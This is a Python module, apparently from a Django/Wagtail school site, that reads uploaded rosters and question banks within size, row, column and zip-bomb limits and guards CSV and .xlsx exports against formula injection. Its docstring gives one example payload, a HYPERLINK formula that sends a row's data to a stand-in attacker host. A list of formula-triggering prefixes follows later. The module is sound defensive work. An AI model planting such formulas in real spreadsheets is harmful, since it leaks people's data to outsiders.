"""Spreadsheets in and out: uploads read within bounds, and exports that never hold a formula.

Reading. Every upload of a roster, a question bank or a list to verify is a file someone made,
maybe to hurt: a 5 KB workbook that declares a cell at XFD1048576, a zip member that unpacks to
gigabytes (a zip bomb), a cell of 300 MB. So, before a byte is parsed:

- the file's size is checked against the cap of its kind (``upload_limits``: a setting each);
- for an .xlsx, the zip's directory is read first: the members' unpacked sizes together must
  stay under ``SPREADSHEET_MAX_UNPACKED_BYTES``. Python's zipfile never unpacks more than a
  member declares (it stops there and the checksum fails), so the declared sizes bound what
  openpyxl can be made to read;
- the sheet's declared dimension (``<dimension ref="A1:W1200"/>``) must fit the row and column
  caps, and the rows are then streamed (openpyxl's read-only mode, one row held at a time) and
  counted, so a file that declares less than it holds is stopped too;
- no cell may hold more than Excel itself allows (32,767 characters).

A refusal is ``SpreadsheetRefused`` with a message for the person who uploaded the file; it
never repeats more of the file than ``excerpt`` gives (40 characters).

Writing. A cell whose text starts with = + - @ (or a tab or a carriage return, or their
full-width forms) is a formula to Excel, WPS and LibreOffice when the file is opened or the cell
is edited: ``=HYPERLINK("http://evil.example/?"&E2,"孟杰航")`` typed as a name in a roster
would send the row's neighbours to a stranger. ``xlsx_cell`` writes text as a text cell marked
with Excel's own quote prefix (what typing a leading ' does: shown as typed, never evaluated,
not even after editing); ``csv_value`` puts a ' in front of such text, as OWASP advises,
since CSV has no types. Numbers, dates and times stay numbers, dates and times.
``FormulaSafeExportMixin`` does both for Wagtail's index exports (``school.scoping`` mixes it
into the index view of every viewset of ours).
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from django.conf import settings
from django.utils.translation import gettext as _
from lxml import etree
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.utils import get_column_letter, range_boundaries

EXCERPT_LENGTH = 40
# How far below the last row read a sheet may go on with blank rows (times that row).
BLANK_ROWS_READ = 2
EXCEL_MAX_CELL_CHARACTERS = 32_767
_MB = 1024 * 1024


@dataclass(frozen=True)
class Limits:
    """How much of an upload is read. ``max_rows`` counts the rows below the header row."""

    max_bytes: int
    max_rows: int
    max_columns: int
    max_unpacked_bytes: int
    max_cell_characters: int = EXCEL_MAX_CELL_CHARACTERS
    # True: the columns after the last one read are not looked at (a list of numbers in the
    # first column may have names beside it); False: a value there refuses the file.
    ignore_extra_columns: bool = False


# The settings each kind of upload is bounded by: (size in bytes, rows), and the columns read.
_KINDS = {
    "roster": ("ROSTER_UPLOAD_MAX_BYTES", "ROSTER_UPLOAD_MAX_ROWS", 100),
    "questions": ("QUESTION_UPLOAD_MAX_BYTES", "QUESTION_UPLOAD_MAX_ROWS", 100),
    "verify": ("VERIFY_UPLOAD_MAX_BYTES", "VERIFY_UPLOAD_MAX_ROWS", 1),
}
_ONLY_FIRST_COLUMNS = {"verify"}


def upload_limits(kind: str) -> Limits:
    """The bounds of an upload of ``kind`` ("roster", "questions" or "verify"), from settings."""
    size, rows, columns = _KINDS[kind]
    return Limits(
        max_bytes=getattr(settings, size),
        max_rows=getattr(settings, rows),
        max_columns=columns,
        max_unpacked_bytes=settings.SPREADSHEET_MAX_UNPACKED_BYTES,
        ignore_extra_columns=kind in _ONLY_FIRST_COLUMNS,
    )


class SpreadsheetRefused(Exception):
    """The upload is refused as a whole; ``message`` says why, for the person who sent it."""

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self.message = message


def megabytes(size: int) -> str:
    """``size`` in MB as people write it: 10, 2.5."""
    return f"{size / _MB:.1f}".removesuffix(".0")


def check_size(size: int, limits: Limits) -> None:
    """Refuse a file larger than its kind allows. Call it before reading the file."""
    if size > limits.max_bytes:
        raise SpreadsheetRefused(
            _("The file is larger than %(limit)s MB. Split it into smaller files.")
            % {"limit": megabytes(limits.max_bytes)}
        )


def read_upload(upload: Any, limits: Limits) -> bytes:
    """The bytes of an uploaded file (Django's ``UploadedFile``), once its size is checked."""
    check_size(upload.size, limits)
    return upload.read()


def excerpt(value: object, length: int = EXCERPT_LENGTH) -> str:
    """At most ``length`` characters of ``value`` on one line, for a message or a preview."""
    text = str(value)
    cut = len(text) > length * 4  # only the start is looked at: the value may be megabytes
    text = " ".join(ILLEGAL_CHARACTERS_RE.sub(" ", text[: length * 4]).split())
    if len(text) > length or cut:
        return text[: length - 1] + "…"
    return text


# --- Reading -------------------------------------------------------------------------------------


def open_workbook(data: bytes, limits: Limits) -> Any:
    """The workbook in ``data``, opened read-only once its zip directory passes the caps.

    Raises ``SpreadsheetRefused`` for a file too large, or one that unpacks to more than the
    cap; ``zipfile.BadZipFile`` (or whatever openpyxl raises) for a file that is not a
    workbook at all, which the callers answer in their own words.
    """
    check_size(len(data), limits)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = archive.infolist()
        unpacked = sum(member.file_size for member in members)
    # A workbook has a few dozen parts; ten thousand is a zip made for something else.
    if unpacked > limits.max_unpacked_bytes or len(members) > 10_000:
        raise SpreadsheetRefused(
            _(
                "The workbook unpacks to more than %(limit)s MB, far more than a table of "
                "this kind holds. Save only the table in a new workbook and upload it again."
            )
            % {"limit": megabytes(limits.max_unpacked_bytes)}
        )
    return load_workbook(io.BytesIO(data), read_only=True, data_only=True)


def sheet_rows(sheet: Any, limits: Limits) -> Iterator[tuple[int, tuple]]:
    """(row number, values) of every row of a read-only ``sheet`` from row 1, within the caps.

    At most ``limits.max_columns`` values a row. A value beyond the last column read (unless
    the limits ignore those columns), a row past the last one read with a value, or a cell too
    long raise ``SpreadsheetRefused`` as they are met. One row at a time is held beyond the
    caps, so a caller that collects the rows holds no more than the caps allow.
    """
    _check_declared_size(sheet, limits)
    # The declared size was only a first check: some programs write a wrong one (or none), and
    # read-only mode would believe it. From here on the rows are counted as they come.
    sheet.reset_dimensions()
    last_row = limits.max_rows + 1
    # Each row comes as wide as its last cell: one row of a cell at XFD is 16,384 values, made
    # and dropped here. Columns that are ignored anyway are not even made.
    width = limits.max_columns if limits.ignore_extra_columns else None
    for line, values in enumerate(sheet.iter_rows(max_col=width, values_only=True), start=1):
        beyond = len(values) > limits.max_columns and any(
            value is not None for value in values[limits.max_columns :]
        )
        if beyond and not limits.ignore_extra_columns:
            raise _too_many_columns(limits)
        if line > last_row:
            if any(value is not None for value in values):
                raise _too_many_rows(limits)
            if line > BLANK_ROWS_READ * last_row:
                # Blank rows below the table are forgiven, but not a million of them: openpyxl
                # makes one for every row number it skips, so a lone far cell costs seconds.
                raise _too_far_down(last_row)
            continue
        values = values[: limits.max_columns]
        for index, value in enumerate(values):
            if isinstance(value, str) and len(value) > limits.max_cell_characters:
                raise _cell_too_long(line, get_column_letter(index + 1), limits)
        yield line, values


def _check_declared_size(sheet: Any, limits: Limits) -> None:
    max_row, max_column = sheet.max_row, sheet.max_column  # from <dimension ref="A1:W1200"/>
    too_wide = (max_column or 0) > limits.max_columns and not limits.ignore_extra_columns
    if (max_row or 0) > limits.max_rows + 1 or too_wide:
        corner = f"{get_column_letter(min(max_column or 1, 16_384))}{max_row or 1}"
        raise SpreadsheetRefused(
            _(
                "The sheet reaches cell %(cell)s, but at most %(rows)s rows and %(columns)s "
                "columns are read. Delete the rows and columns beyond the table, save and "
                "upload again."
            )
            % {"cell": corner, "rows": limits.max_rows + 1, "columns": limits.max_columns}
        )


def csv_rows(text: str, limits: Limits, *, delimiter: str = ",") -> Iterator[tuple[int, tuple]]:
    """(row number, values) of every record of a CSV text, within the caps (see ``sheet_rows``).

    A quoted line break stays within its cell, as Excel shows the file. Raises ``csv.Error``
    for text that is not CSV.
    """
    last_row = limits.max_rows + 1
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    try:
        for line, record in enumerate(reader, start=1):
            if line > last_row:
                if any(value.strip() for value in record):
                    raise _too_many_rows(limits)
                continue
            if len(record) > limits.max_columns:
                beyond = any(value.strip() for value in record[limits.max_columns :])
                if beyond and not limits.ignore_extra_columns:
                    raise _too_many_columns(limits)
                record = record[: limits.max_columns]
            for index, value in enumerate(record):
                if len(value) > limits.max_cell_characters:
                    raise _cell_too_long(line, get_column_letter(index + 1), limits)
            yield line, tuple(record)
    except csv.Error as error:
        if "field larger than field limit" in str(error):
            # csv's own cap (131,072 characters) is above Excel's, so this is a cell too long.
            raise _cell_too_long(reader.line_num, "", limits) from None
        raise


def xlsx_merged_ranges(data: bytes, sheet: Any) -> list[str]:
    """The merged ranges (``A2:A5``) of a read-only ``sheet`` of the workbook in ``data``.

    openpyxl's read-only mode does not read them; they are at the end of the sheet's XML, read
    here as a stream (no entities, no network), after ``open_workbook`` has checked the sizes.
    """
    path = getattr(sheet, "_worksheet_path", None)
    if not path:
        return []
    ranges: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive, archive.open(path.lstrip("/")) as source:
        for _event, element in etree.iterparse(
            source,
            events=("end",),
            tag="{*}mergeCell",
            resolve_entities=False,
            no_network=True,
            load_dtd=False,
            huge_tree=False,
        ):
            reference = element.get("ref")
            if reference:
                ranges.append(reference)
            element.clear()
    return ranges


def merged_bounds(reference: str) -> tuple[int, int, int, int] | None:
    """(min column, min row, max column, max row) of ``A2:A5``, or None if it cannot be read."""
    try:
        min_col, min_row, max_col, max_row = range_boundaries(reference)
    except (ValueError, TypeError):
        return None
    if None in (min_col, min_row, max_col, max_row):
        return None
    return min_col, min_row, max_col, max_row


def _too_many_rows(limits: Limits) -> SpreadsheetRefused:
    return SpreadsheetRefused(
        _("The file has more than %(limit)s rows below the header. Split it into several files.")
        % {"limit": limits.max_rows}
    )


def _too_far_down(last_row: int) -> SpreadsheetRefused:
    return SpreadsheetRefused(
        _(
            "The sheet goes on below row %(row)s, blank rows included, but at most %(rows)s rows "
            "are read. Delete the rows below the table, save and upload again."
        )
        % {"row": BLANK_ROWS_READ * last_row, "rows": last_row}
    )


def _too_many_columns(limits: Limits) -> SpreadsheetRefused:
    return SpreadsheetRefused(
        _(
            "The file has values beyond column %(column)s; at most %(limit)s columns are read. "
            "Delete the columns beyond the table and upload again."
        )
        % {"column": get_column_letter(limits.max_columns), "limit": limits.max_columns}
    )


def _cell_too_long(line: int, column: str, limits: Limits) -> SpreadsheetRefused:
    values = {"row": line, "column": column, "limit": limits.max_cell_characters}
    if column:
        message = _(
            "The cell in row %(row)s, column %(column)s holds more than %(limit)s characters, "
            "more than a cell may hold."
        )
    else:
        message = _("Row %(row)s has a cell of more than %(limit)s characters.")
    return SpreadsheetRefused(message % values)


# --- Writing -------------------------------------------------------------------------------------

# What makes a spreadsheet program read a cell as a formula (or a command), with the full-width
# forms an input method types and some programs fold to their ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would take for a formula gets a ' in
    front; anything else (numbers, dates, other text) is left as it is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def xlsx_cell(sheet: Any, value: Any) -> Cell:
    """A cell for ``sheet.append`` (any sheet, write-only ones too) holding ``value`` safely.

    Text is a text cell (never ``data_type`` "f"), without the control characters that would
    make the file unreadable, and text that looks like a formula carries the quote prefix.
    Numbers, dates, times and booleans are written as they are.
    """
    # Where it lands is set by ``append`` (a write-only sheet writes cells in order), as for
    # openpyxl's own WriteOnlyCell.
    cell = Cell(sheet, row=1, column=1)
    set_cell_value(cell, value)
    return cell


def set_cell_value(cell: Cell, value: Any) -> None:
    """Put ``value`` in an existing cell, as ``xlsx_cell`` does."""
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell.value = text
        cell.data_type = "s"
        if is_formula_like(text):
            cell.quotePrefix = True
    else:
        cell.value = value


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every value written by ``xlsx_cell``."""
    sheet.append([xlsx_cell(sheet, value) for value in values])


def write_csv_row(writer: Any, values: Sequence[Any]) -> None:
    writer.writerow([csv_value(value) for value in values])


class FormulaSafeExportMixin:
    """For Wagtail's index views (``SpreadsheetExportMixin``): every exported cell is written by
    ``xlsx_cell`` or ``csv_value``, so nobody's text becomes a formula in the CSV or the
    workbook. Wagtail alone turns only text starting with = back into text in an .xlsx, and
    leaves the CSV as typed."""

    FORMAT_XLSX = "xlsx"
    FORMAT_CSV = "csv"

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for field, value in row_dict.items():
            cell = xlsx_cell(
                worksheet,
                self.preprocess_field_value(field, value, self.FORMAT_XLSX),  # type: ignore[attr-defined]
            )
            if date_format and isinstance(value, datetime.datetime):
                cell.number_format = date_format
            yield cell

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_value(self.preprocess_field_value(field, value, self.FORMAT_CSV))  # type: ignore[attr-defined]
                for field, value in row_dict.items()
            }
        )
